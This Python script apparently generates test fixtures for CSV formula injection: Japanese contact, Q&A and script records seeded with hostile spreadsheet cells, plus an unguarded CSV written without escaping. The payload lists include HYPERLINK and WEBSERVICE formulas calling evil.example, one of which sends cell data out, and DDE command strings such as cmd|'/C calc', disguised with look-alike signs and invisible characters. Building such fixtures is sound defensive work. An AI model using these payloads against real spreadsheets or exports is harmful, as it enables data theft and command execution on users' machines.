#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""hostile_cells.py COUNT FOLDER: contacts.jsonl, articles.jsonl and scripts.jsonl with COUNT hostile texts in them,
each another, and unguarded.csv with the same texts as a program without a guard would write them."""

import csv
import json
import random
import sys

SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "−"]
BLANKS = ["", "", "", " ", "　", "\ufeff", "\u200b", "\u2060", "\u200e", "\t", "\n", "\r\n", '"', '""', "\u3164"]
BREAKS = [";", "\t", "\n", "\r\n", ";;", '";', ';"', '"\n', ',"', '",', '";"', "\t\"", ","]
FORMULAS = ["1+{n}", "SUM({n},1)", 'HYPERLINK("http://evil.example/{n}","見る")', "cmd|'/C calc'!A{n}",
            "{n}*2", 'WEBSERVICE("http://evil.example/?q="&A{n})', "A{n}", "DDE(\"soffice\";\"x{n}\";\"y\")"]
WORDS = ["住民票", "ごみの日", "a", "", "'", '"', "引っ越し、", "x,y", "''"]


def hostile(n, chance):
    if n % 3 == 0:
        return chance.choice(BLANKS[:4] + ['"']) + "=" + chance.choice(FORMULAS).format(n=n)
    text = chance.choice(WORDS) + chance.choice(BREAKS) if chance.random() < 0.6 else ""
    for _ in range(chance.randint(1, 3)):
        sign = "=" if chance.random() < 0.5 else chance.choice(SIGNS)
        text += chance.choice(BLANKS) + sign + chance.choice(FORMULAS).format(n=n) + chance.choice(BREAKS + ["", "", ""])
    return text + chance.choice(WORDS)


def main():
    count, folder = int(sys.argv[1]), sys.argv[2]
    chance = random.Random(5)
    texts = [hostile(n, chance) for n in range(count)]
    # Each contact takes three of them, each Q&A four, each script one: 4, 4 and 2 of every 10.
    files = {name: open(f"{folder}/{name}.jsonl", "w", encoding="utf-8") for name in ("contacts", "articles", "scripts")}

    def put(name, record):
        files[name].write(json.dumps(record, ensure_ascii=False) + "\n")

    left = iter(texts)
    for n in range(count // 10):
        take = lambda: next(left)
        for half in range(2):
            put("contacts", {"id": f"c{n}-{half}", "channel": "phone", "lang": "ja", "inquiry": take(), "wish": take(),
                             "outcome": "answered", "articles": [], "note": "備考"})
        put("articles", {"number": f"{n}", "lang": "ja", "question": take(), "answer": take(),
                         "keywords": [take().replace("\n", " ")], "card": {"fee": take()}})
        for half in range(2):
            put("scripts", {"key": f"k{n}{'ab'[half]}", "lang": "ja", "title": f"題{n}-{half}", "text": take()})
    for file in files.values():
        file.close()
    with open(f"{folder}/unguarded.csv", "w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file).writerows([f"{n}", text, "終"] for n, text in enumerate(texts))


if __name__ == "__main__":
    main()
